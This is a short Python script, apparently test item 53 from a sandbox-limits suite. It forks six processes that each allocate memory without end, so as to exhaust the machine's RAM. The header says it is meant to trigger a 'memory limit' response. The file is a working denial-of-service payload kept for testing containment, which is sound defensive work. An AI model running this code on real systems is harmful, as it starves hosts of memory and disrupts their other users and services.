# attack: 53
# title: memory without end, in many processes
# success: the machine runs out of memory
# says: memory limit
# unshown: would harm the machine without a box
import os
import time

for _ in range(6):
    if os.fork() == 0:
        held = []
        try:
            while True:
                held.append(bytearray(os.urandom(1 << 16) * 160))
        except MemoryError:
            time.sleep(60)
time.sleep(60)
